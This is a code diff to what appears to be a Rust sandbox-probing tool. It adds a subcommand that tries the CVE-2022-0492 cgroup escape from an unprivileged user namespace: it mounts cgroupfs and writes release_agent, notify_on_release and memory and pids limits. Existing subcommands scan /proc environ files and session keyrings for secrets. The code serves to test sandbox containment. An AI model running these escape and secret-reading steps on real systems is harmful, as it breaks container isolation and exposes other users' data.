@@ -27,6 +27,8 @@
 //! attack key-add DESC VALUE         add a "user" key to its session keyring
 //! attack key-read DESC               find a "user" key DESC from its session keyring, read it
 //! attack userns-peek PATH..        in a new user + mount namespace, unmount each PATH and list it
+//! attack userns-cgroup DIR          in new user + mount + cgroup namespaces, mount cgroupfs on
+//!                                    DIR and write limits and release_agent (CVE-2022-0492)
 //! attack environ-scan SECRET [PID..] read /proc/*/environ and /proc/PID/environ, look for SECRET
 //! ```
 
@@ -422,18 +424,9 @@ fn key_read(desc: &str) {
 /// unprivileged user namespaces are), then tries to unmount the sandbox's covering mounts to
 /// look underneath: the host's /tmp, the other payloads' scratch directories.
 fn userns_peek(paths: &[String]) {
-    // SAFETY: the id getters take no arguments and cannot fail.
-    let (uid, gid) = unsafe { (libc::getuid(), libc::getgid()) };
-    // SAFETY: unshare takes flags only; this program is single-threaded, as CLONE_NEWUSER needs.
-    let r =
-        check(unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) } as libc::c_long);
-    if report("unshare user+mount namespace", r).is_none() {
+    if !userns_root(0) {
         return;
     }
-    let maps = std::fs::write("/proc/self/setgroups", "deny")
-        .and_then(|_| std::fs::write("/proc/self/uid_map", format!("0 {uid} 1")))
-        .and_then(|_| std::fs::write("/proc/self/gid_map", format!("0 {gid} 1")));
-    report("map root in the user namespace", maps);
     for p in paths {
         let c = cstr(p);
         // SAFETY: c is NUL-terminated; MNT_DETACH is a plain flag.
@@ -444,6 +437,74 @@ fn userns_peek(paths: &[String]) {
                 println!("ENTRY {p}/{}", e.file_name().to_string_lossy());
             }
         }
+    }
+}
+
+/// Root of new user, mount and cgroup namespaces (root mapped to the caller).
+fn userns_root(extra: libc::c_int) -> bool {
+    // SAFETY: the id getters take no arguments and cannot fail.
+    let (uid, gid) = unsafe { (libc::getuid(), libc::getgid()) };
+    // SAFETY: unshare takes flags only; this program is single-threaded, as CLONE_NEWUSER needs.
+    let r = check(
+        unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS | extra) } as libc::c_long,
+    );
+    if report("unshare user+mount namespace", r).is_none() {
+        return false;
+    }
+    let maps = std::fs::write("/proc/self/setgroups", "deny")
+        .and_then(|_| std::fs::write("/proc/self/uid_map", format!("0 {uid} 1")))
+        .and_then(|_| std::fs::write("/proc/self/gid_map", format!("0 {gid} 1")));
+    report("map root in the user namespace", maps).is_some()
+}
+
+/// The classic cgroup escapes from a user namespace: mount a cgroup hierarchy of one's own
+/// and write its limits or the v1 `release_agent` (run as root by the kernel on release).
+fn userns_cgroup(dir: &str) {
+    if !userns_root(libc::CLONE_NEWCGROUP) {
+        return;
+    }
+    let _ = std::fs::create_dir_all(dir);
+    const FILES: &[(&str, &str)] = &[
+        ("release_agent", "/tmp/agent"),
+        ("notify_on_release", "1"),
+        ("memory.limit_in_bytes", "-1"),
+        ("memory.memsw.limit_in_bytes", "-1"),
+        ("memory.max", "max"),
+        ("memory.swap.max", "max"),
+        ("pids.max", "max"),
+        ("cgroup.subtree_control", "+pids"),
+    ];
+    let d = cstr(dir);
+    for (fs, opts) in [
+        ("cgroup2", ""),
+        ("cgroup", "memory"),
+        ("cgroup", "pids"),
+        ("cgroup", "none,name=systemd"),
+    ] {
+        let (t, o) = (cstr(fs), cstr(opts));
+        // SAFETY: every pointer is a NUL-terminated string that outlives the call.
+        let rc = unsafe { libc::mount(t.as_ptr(), d.as_ptr(), t.as_ptr(), 0, o.as_ptr().cast()) };
+        if rc != 0 {
+            println!(
+                "NOMOUNT {fs} {opts} {}",
+                errno_name(std::io::Error::last_os_error())
+            );
+            continue;
+        }
+        println!("MOUNTED {fs} {opts}");
+        for (f, v) in FILES {
+            let p = std::path::Path::new(dir).join(f);
+            if !p.exists() {
+                continue;
+            }
+            let r = std::fs::OpenOptions::new()
+                .write(true)
+                .open(&p)
+                .and_then(|mut fh| fh.write_all(v.as_bytes()));
+            report(&format!("write {fs}:{opts}/{f} {v}"), r);
+        }
+        // SAFETY: d is NUL-terminated.
+        unsafe { libc::umount2(d.as_ptr(), libc::MNT_DETACH) };
     }
 }
 
@@ -493,6 +554,7 @@ fn main() {
         "key-add" => key_add(arg(&args, 2), arg(&args, 3)),
         "key-read" => key_read(arg(&args, 2)),
         "userns-peek" => userns_peek(&args[2..]),
+        "userns-cgroup" => userns_cgroup(arg(&args, 2)),
         "environ-scan" => environ_scan(arg(&args, 2), &args[3..]),
         _ => usage(),
     }
